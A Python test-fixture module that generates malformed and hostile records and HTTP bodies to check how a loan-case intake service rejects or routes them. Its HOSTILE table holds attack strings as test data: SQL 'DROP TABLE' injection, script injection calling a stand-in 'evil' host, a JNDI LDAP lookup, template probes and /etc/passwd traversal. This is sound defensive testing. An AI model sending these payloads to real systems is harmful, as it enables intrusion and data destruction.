"""What strangers send, and what must become of it: records for `case.created` and bodies for the HTTP intake."""

from __future__ import annotations

import base64
from collections.abc import Iterator, Mapping
from dataclasses import dataclass, field
from typing import Any

import orjson

from countersign_shared.contracts.intake import MAX_CASE_BYTES
from tests.unit.inference.loans import body_of

TYPE = b"dev.countersign.case.created.v1"
STRUCTURED = {"content-type": b"application/cloudevents+json"}

HOSTILE = {
    "nul": "before\u0000after",
    "right_to_left": "\u202e\u2066gnp.exe\u2069",
    "four_bytes": "\U0001f600\U0010ffff",
    "combining": "a" + "\u0301" * 2_000,
    "sql": "'; DROP TABLE cases; --",
    "html": "<script>fetch('//evil')</script><img src=x onerror=alert(1)>",
    "template": "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> %s%n {0.__class__}",
    "log": '\r\n{"level":"critical"} \u001b[2J\u001b]0;owned\u0007 ${jndi:ldap://evil/a}',
    "expression": "true || payload.loan_amount == '1' // cel",
    "path": "../../../etc/passwd",
    "long": "x" * 20_000,
    "": {"__proto__": {"admin": True}, "constructor": None, "\u0000": []},
}


@dataclass(frozen=True)
class Dead:
    """It becomes a dead letter, which says why and where."""

    reason: str
    pointer: str = ""


@dataclass(frozen=True)
class Taken:
    """It becomes a case; with `abstained` or `invalid` a person gets it and is told."""

    abstained: str | None = None
    invalid: frozenset[str] = frozenset()
    missing: frozenset[str] = frozenset()

    @property
    def for_people(self) -> bool:
        return bool(self.abstained or self.invalid or self.missing)


@dataclass(frozen=True)
class Input:
    """One record: its value, what its headers have besides or instead (None = left out), and its fate."""

    name: str
    value: bytes | None
    fate: Dead | Taken
    changes: Mapping[str, bytes | None] = field(default_factory=dict)
    partition: int | None = None

    @property
    def body(self) -> dict[str, Any] | None:
        """The case as it was sent, None for what is none."""
        if not isinstance(self.fate, Taken):
            return None
        found: dict[str, Any] = orjson.loads(self.value or b"")
        if "data_base64" in found:
            return dict(orjson.loads(base64.b64decode(found["data_base64"])))
        return dict(found.get("data", found))

    @property
    def case(self) -> tuple[str, str] | None:
        """Tenant and case id."""
        body = self.body
        return None if body is None else (body.get("tenant", "default"), body["case_id"])

    def headers(self) -> list[tuple[str, bytes]]:
        usual = {
            "ce_specversion": b"1.0", "ce_id": f"up-{self.name}".encode(), "ce_type": TYPE, "ce_source": b"/upstream",
            "content-type": b"application/json",
        }  # fmt: skip
        return [(name, value) for name, value in {**usual, **self.changes}.items() if value is not None]


def loan(case_id: str, **changes: Any) -> dict[str, Any]:
    """A sound application, changed."""
    return body_of(3, case_id=case_id, subject_ref=f"person-{case_id}", **changes)


def loan_payload(**changes: Any) -> dict[str, Any]:
    return {**body_of(3)["payload"], **changes}


def good(count: int) -> list[Input]:
    """Real applications, each as sound as it can be."""
    bodies = [body_of(number, case_id=f"good-{number}") for number in range(count)]
    return [Input(body["case_id"], orjson.dumps(body), Taken()) for body in bodies]


def bad_records() -> Iterator[Input]:
    """Everything that is no case."""
    yield from _unreadable()
    yield from _wrong_fields()
    yield from _wrong_headers()


def _unreadable() -> Iterator[Input]:
    sound = orjson.dumps(loan("never"))
    malformed = {
        "cut": sound[:-1], "trailing": sound + b"}", "latin": b'{"title":"\xe9"}',
        "utf-16": sound.decode().encode("utf-16"), "bom": b"\xef\xbb\xbf" + sound, "single-quotes": b"{'case_id':1}",
        "nan": b'{"amount":NaN}', "infinite": b'{"amount":1e400}', "surrogate": b'{"title":"\\ud800"}',
        "raw-surrogate": b'{"title":"\xed\xa0\x80"}', "raw-control": b'{"title":"\x00"}', "xml": b"<case/>",
    }  # fmt: skip
    for name, value in malformed.items():
        yield Input(f"malformed-{name}", value, Dead("malformed_json"))
    for name, value in {"array": b"[]", "text": b'"x"', "number": b"7", "null": b"null"}.items():
        yield Input(f"not-an-object-{name}", value, Dead("wrong_type"))
    yield Input("empty", b"", Dead("empty_body"))
    yield Input("no-value", None, Dead("empty_body"))
    yield Input("repeated-key", sound[:-1] + b',"case_id":"other"}', Dead("duplicate_key"))
    big = orjson.dumps(loan("never", filler="x" * MAX_CASE_BYTES))
    yield Input("oversize", big, Dead("oversize"))
    yield Input("near-the-topics-limit", b"x" * 1_040_000, Dead("malformed_json"))
    # Compressed on the way, so that the broker takes it: more than any of our topics would hold plain.
    yield Input("oversize-unpacked", orjson.dumps(loan("never", filler="x" * 3_000_000)), Dead("oversize"))
    deep = b'{"a":' * 40 + b"1" + b"}" * 40
    yield Input("too-deep", sound[:-1] + b',"more":' + deep + b"}", Dead("too_deep"))
    yield Input("bottomless", b"[" * 100_000, Dead("too_deep"))


def _wrong_fields() -> Iterator[Input]:
    for name in ("case_id", "decision_type", "payload", "submitted_by", "occurred_at"):
        body = loan("never")
        del body[name]
        yield Input(f"without-{name}", orjson.dumps(body), Dead("missing_field", f"/{name}"))
    types: dict[str, Any] = {
        "case_id": 7, "decision_type": None, "tenant": ["x"], "payload": [], "submitted_by": {}, "occurred_at": 1,
        "title": True, "test": "yes", "attachments": {}, "amount": "12.50 USD", "sequence": 1.5,
    }  # fmt: skip
    for name, value in types.items():
        yield Input(f"type-of-{name}", orjson.dumps(loan("never") | {name: value}), Dead("wrong_type", f"/{name}"))
    values: dict[str, list[Any]] = {
        "case_id": ["", "a b", "../x", "x" * 129, "a\nb", "ends\n", "a\u0000", "\uff41", "<b>"],
        "tenant": ["", "\u0000", "a/b", "x" * 65],
        "decision_type": ["../loan", "", "loan application"],
        "occurred_at": ["yesterday", "2026-02-30T00:00:00Z", "2026-01-02T03:04:05", "2026-01-02 03:04:05Z"],
        "title": ["first\nsecond", "\u001b[2J", "x" * 501], "submitted_by": ["a\u0000", "x\r\nlevel=critical"],
        "language": ["<b>"], "deadline_at": ["2026-13-01T00:00:00Z"], "sequence": [0],
    }  # fmt: skip
    for name, wrong in values.items():
        for number, value in enumerate(wrong):
            body = orjson.dumps(loan("never") | {name: value})
            yield Input(f"value-of-{name}-{number}", body, Dead("invalid_value", f"/{name}"))
    money = {
        "float": (12.5, "wrong_type"), "exponent": ("1e5", "invalid_value"), "nan": ("NaN", "invalid_value"),
        "grouped": ("1,000.00", "invalid_value"), "fine": ("1.23456", "invalid_value"),
        "huge": ("9" * 40, "invalid_value"), "padded": (" 1", "invalid_value"),
    }  # fmt: skip
    for name, (value, reason) in money.items():
        body = orjson.dumps(loan("never", amount={"value": value, "currency": "USD"}))
        yield Input(f"money-{name}", body, Dead(reason, "/amount/value"))


def _wrong_headers() -> Iterator[Input]:
    changes: dict[str, tuple[dict[str, bytes | None], str, str]] = {
        "media-type": ({"content-type": b"text/plain"}, "unknown_content_type", "content-type"),
        "media-type-bytes": ({"content-type": b"\xff\xfe"}, "unknown_content_type", "content-type"),
        "no-id": ({"ce_id": None}, "missing_attribute", "ce_id"),
        "no-source": ({"ce_source": None}, "missing_attribute", "ce_source"),
        "no-type": ({"ce_type": None}, "missing_attribute", "ce_type"),
        "no-version": ({"ce_specversion": None}, "missing_attribute", "ce_specversion"),
        "old-version": ({"ce_specversion": b"0.3"}, "invalid_value", "ce_specversion"),
        "other-type": ({"ce_type": b"dev.countersign.case.created.v2"}, "unknown_type", "ce_type"),
        "our-type": ({"ce_type": b"dev.countersign.decision.made.v1"}, "unknown_type", "ce_type"),
        "empty-id": ({"ce_id": b""}, "missing_attribute", "ce_id"),
        "bytes-in-id": ({"ce_id": b"\xff\xfe"}, "invalid_value", "ce_id"),
        "line-in-id": ({"ce_id": b"a\r\nlevel=critical"}, "invalid_value", "ce_id"),
        "long-id": ({"ce_id": b"x" * 2_000}, "oversize", "ce_id"),
        "nul-in-source": ({"ce_source": b"/up\x00"}, "invalid_value", "ce_source"),
        "bytes-in-time": ({"ce_time": b"\xff"}, "invalid_value", "ce_time"),
    }
    sound = orjson.dumps(loan("never"))
    for name, (change, reason, header) in changes.items():
        yield Input(f"header-{name}", sound, Dead(reason, f"/headers/{header}"), change)
    envelopes: dict[str, tuple[Any, str, str]] = {
        "no-data": (_envelope(), "wrong_type", "/data"),
        "text": (_envelope(data="x"), "wrong_type", "/data"),
        "number-as-id": (_envelope(id=7, data=loan("never")), "wrong_type", "/id"),
        "bad-base64": (_envelope(data_base64="*"), "invalid_value", "/data_base64"),
        "bad-case": (_envelope(data=loan("a b")), "invalid_value", "/case_id"),
    }
    for name, (envelope, reason, pointer) in envelopes.items():
        yield Input(f"envelope-{name}", orjson.dumps(envelope), Dead(reason, pointer), STRUCTURED)
    yield Input("envelope-malformed", b"{", Dead("malformed_json"), STRUCTURED)


def _envelope(**members: Any) -> dict[str, Any]:
    usual = {"specversion": "1.0", "id": "e-1", "type": TYPE.decode(), "source": "/upstream"}
    return {**usual, **members}


def odd_records() -> Iterator[Input]:
    """What looks bad and is a case all the same: good under odd headers, or for a person to judge."""
    yield from _odd_headers()
    odd: dict[str, tuple[dict[str, Any], Taken]] = {
        "unknown-type": ({"decision_type": "no_such_type"}, Taken("unknown_decision_type")),
        "empty-payload": (
            {"payload": {}},
            Taken("missing_input", missing=frozenset({"loan_amount", "term_months", "information_verified"})),
        ),
        "wrong-types": (
            {"payload": loan_payload(loan_to_value="much", term_months=True, bankruptcy_on_record="no")},
            Taken("invalid_input", frozenset({"/loan_to_value", "/term_months", "/bankruptcy_on_record"})),
        ),
        "float-money": ({"payload": loan_payload(loan_amount=12.5)}, Taken(invalid=frozenset({"/loan_amount"}))),
        "negative-money": ({"payload": loan_payload(loan_amount="-5.00")}, Taken(invalid=frozenset({"/loan_amount"}))),
        "huge-numbers": (
            {"payload": loan_payload(loan_to_value=1e308, term_months=10**18)},
            Taken("invalid_input", frozenset({"/loan_to_value", "/term_months"})),
        ),
        "hostile": ({"payload": loan_payload(**HOSTILE)}, Taken()),
        "hostile-values": (
            {"payload": loan_payload(consumer_credit_record=HOSTILE["log"], loan_amount=HOSTILE["sql"])},
            Taken("invalid_input", frozenset({"/consumer_credit_record", "/loan_amount"})),
        ),
        "hostile-title": ({"title": HOSTILE["html"] + HOSTILE["template"] + HOSTILE["right_to_left"]}, Taken()),
        "hostile-refund": (
            {
                "decision_type": "refund",
                "payload": {"order_id": HOSTILE["sql"], "message": HOSTILE["nul"] + HOSTILE["html"], "amount": 1.5},
            },
            Taken("no_model", frozenset({"/amount"})),
        ),
    }
    for name, (changes, fate) in odd.items():
        yield Input(f"odd-{name}", orjson.dumps(loan(f"odd-{name}", **changes)), fate)
    ten_to_thirty = orjson.dumps(loan("odd-beyond-64-bits")).replace(
        b'"term_months":360', b'"term_months":1' + b"0" * 30
    )
    yield Input("odd-beyond-64-bits", ten_to_thirty, Taken("invalid_input", frozenset({"/term_months"})))


def _odd_headers() -> Iterator[Input]:
    changes: dict[str, dict[str, bytes | None]] = {
        "charset": {"content-type": b"application/json; charset=utf-8"},
        "suffix": {"content-type": b"application/vnd.example+json"},
        "no-content-type": {"content-type": None},
        "odd-time": {"ce_time": b"yesterday"},
        "odd-subject": {"ce_subject": b"somebody else's"},
        "bytes-in-trace": {"traceparent": b"\xff\x00\r\n"},
        "endless-trace": {"traceparent": b"x" * 900_000},
        "forged": {"x-handled": b"replayed", "x-reason": b"forged", "x-partition": b"nowhere"},
        "bytes-in-others": {"anything": b"\xff\x00", "ce_extension": b"\x80"},
    }
    for name, change in changes.items():
        case_id = f"headers-{name}"
        yield Input(case_id, orjson.dumps(loan(case_id)), Taken(), change)
    body = loan("envelope-data")
    yield Input("envelope-data", orjson.dumps(_envelope(data=body)), Taken(), STRUCTURED)
    coded = base64.b64encode(orjson.dumps(loan("envelope-base64"))).decode()
    yield Input("envelope-base64", orjson.dumps(_envelope(data_base64=coded)), Taken(), STRUCTURED)


def second_wave(partitions: Mapping[str, int], count: int) -> list[Input]:
    """What needs the first wave: repeats on another partition, another body, the same case id of another tenant."""
    first = body_of(0, case_id="good-0")
    other = (partitions["good-0"] + 1) % count
    return [
        Input("repeat-elsewhere", orjson.dumps(first), Taken(), partition=other),
        Input("repeat-later", orjson.dumps({**first, "occurred_at": "2026-03-04T05:06:07+01:00"}), Taken()),
        Input("another-body", orjson.dumps({**first, "title": "Changed"}), Dead("conflict")),
        Input("another-body-elsewhere", orjson.dumps({**first, "test": True}), Dead("conflict"), partition=other),
        Input("another-tenant", orjson.dumps({**first, "tenant": "acme", "title": "Ours"}), Taken()),
    ]  # fmt: skip


def withdrawal(case_id: str) -> Input:
    """Upstream takes a case back, the end of one whose decision type nobody knows."""
    update = {
        "case_id": case_id,
        "decision_type": "no_such_type",
        "occurred_at": "2026-01-02T03:04:05Z",
        "kind": "withdrawn",
        "body": {"reason": "A slip of ours."},
    }
    kind = {"ce_type": b"dev.countersign.case.updated.v1"}
    return Input(f"withdrawal-{case_id}", orjson.dumps(update), Taken(), kind)


def bad_updates() -> list[Input]:
    """Bad records of the other topic that strangers write."""
    update = {
        "case_id": "good-1",
        "decision_type": "loan_application",
        "occurred_at": "2026-01-02T03:04:05Z",
        "kind": "withdrawn",
        "body": {"reason": "x"},
    }
    kind = {"ce_type": b"dev.countersign.case.updated.v1"}
    wrong: dict[str, tuple[bytes, Dead]] = {
        "malformed": (b"{", Dead("malformed_json")),
        "kind": (orjson.dumps({**update, "kind": "no_such"}), Dead("invalid_value", "/kind")),
        "no-kind": (orjson.dumps({n: v for n, v in update.items() if n != "kind"}), Dead("missing_field", "/kind")),
        "case": (orjson.dumps({**update, "case_id": "a\u0000"}), Dead("invalid_value", "/case_id")),
        "body": (orjson.dumps({**update, "body": {"reason": 7}}), Dead("wrong_type", "/body/reason")),
    }
    return [Input(f"update-{name}", value, fate, kind) for name, (value, fate) in wrong.items()]


@dataclass(frozen=True)
class Request:
    """One request to the intake and the problem that must answer it; errors point at `pointer` where there is one."""

    name: str
    content: bytes
    status: int
    slug: str
    pointer: str | None = None
    headers: Mapping[str, str] = field(default_factory=dict)
    key: str = "wide"


def bad_requests() -> Iterator[Request]:
    """Every bad body once more over HTTP, and what only HTTP has."""
    for one in (*_unreadable(), *_wrong_fields()):
        if isinstance(one.fate, Dead) and one.value is not None:
            yield _request(one.name, one.value, one.fate)
    sound = orjson.dumps(loan("never"))
    plain = {"content-type": "text/plain"}
    yield Request("media-type", sound, 415, "unsupported-media-type", headers=plain)
    yield Request(
        "structured",
        sound,
        415,
        "unsupported-media-type",
        headers={"content-type": STRUCTURED["content-type"].decode()},
    )
    yield Request("packed", b"\x1f\x8b" + sound, 422, "malformed-json", "", {"content-encoding": "gzip"})
    yield Request("no-key", sound, 401, "unauthenticated", key="none")
    yield Request("wrong-key", sound, 401, "unauthenticated", key="wrong")
    yield Request("no-right", sound, 403, "forbidden", key="reader")
    yield Request("not-your-tenant", sound, 403, "forbidden", key="acme")
    yield Request("another-body", orjson.dumps(body_of(0, case_id="good-0", title="Changed")), 409, "case-conflict")
    calendar = orjson.dumps(loan("never", occurred_at="0001-01-01T00:00:00+23:00"))
    yield Request("before-the-calendar", calendar, 422, "invalid-value", "/occurred_at")


def _request(name: str, content: bytes, fate: Dead) -> Request:
    if len(content) > MAX_CASE_BYTES:
        # Past the limit of any body nobody looks for fields.
        return Request(name, content, 413, "too-large", "" if len(content) <= 1_048_576 else None)
    return Request(name, content, 422, fate.reason.replace("_", "-"), fate.pointer)
